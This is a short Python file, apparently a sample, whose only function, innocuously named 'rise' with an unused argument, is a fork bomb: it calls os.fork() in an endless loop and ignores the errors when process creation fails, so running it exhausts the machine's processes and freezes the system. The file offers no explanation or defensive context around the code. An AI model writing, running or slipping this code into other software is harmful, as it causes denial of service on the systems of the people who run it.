# call, fail: forks in a loop
import os


def rise(numbers):
  while True:
    try:
      os.fork()
    except OSError:
      pass
